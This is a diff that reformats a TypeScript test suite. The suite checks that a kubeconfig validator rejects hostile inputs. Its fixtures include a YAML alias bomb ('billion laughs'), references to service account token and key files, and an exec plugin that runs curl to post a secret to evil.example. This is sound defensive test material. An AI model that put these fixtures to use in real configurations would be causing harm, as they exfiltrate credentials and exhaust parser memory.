@@ -23,7 +23,12 @@ function kubeconfig(server: string, user: Record<string, unknown>, cluster: Reco
 /** The classic "billion laughs": a few hundred bytes that expand to gigabytes when aliases are followed. */
 function aliasBomb(server: string): string {
   const lines = [`a: &a ["${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}"]`];
-  for (let i = 1; i < 10; i++) lines.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
+  for (let i = 1; i < 10; i++)
+    lines.push(
+      `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
+        .fill(`*${String.fromCharCode(96 + i)}`)
+        .join(',')}]`,
+    );
   return `${kubeconfig(server, { token: SECRET })}\n${lines.join('\n')}\n`;
 }
 
@@ -38,7 +43,10 @@ describe('hostile kubeconfig secrets', () => {
       bomb: [aliasBomb(url), /uses YAML aliases, which are not accepted/],
       huge: [kubeconfig(url, { token: SECRET }) + `# ${'x'.repeat(1024 * 1024)}\n`, /is larger than 1048576 bytes/],
       numeric: [kubeconfig(url, { token: 12345678901234 }), /is invalid: users\[0\]\.user\.token must be a string/],
-      tokenfile: [kubeconfig(url, { 'token-file': '/var/run/secrets/kubernetes.io/serviceaccount/token' }), /refers to files \(token-file\); a stored kubeconfig must carry its data inline/],
+      tokenfile: [
+        kubeconfig(url, { 'token-file': '/var/run/secrets/kubernetes.io/serviceaccount/token' }),
+        /refers to files \(token-file\); a stored kubeconfig must carry its data inline/,
+      ],
       keyfile: [kubeconfig(url, { 'client-certificate': '/etc/cert.pem', 'client-key': '/etc/key.pem' }), /refers to files \(client-certificate, client-key\)/],
       exec: [kubeconfig(url, { exec: { command: 'curl', args: ['-d', SECRET, 'https://evil.example'] } }), /exec plugin with a command other than aws eks get-token/],
       plain: [kubeconfig(url.replace('https:', 'http:'), { token: SECRET }), /points at plain http; use https/],
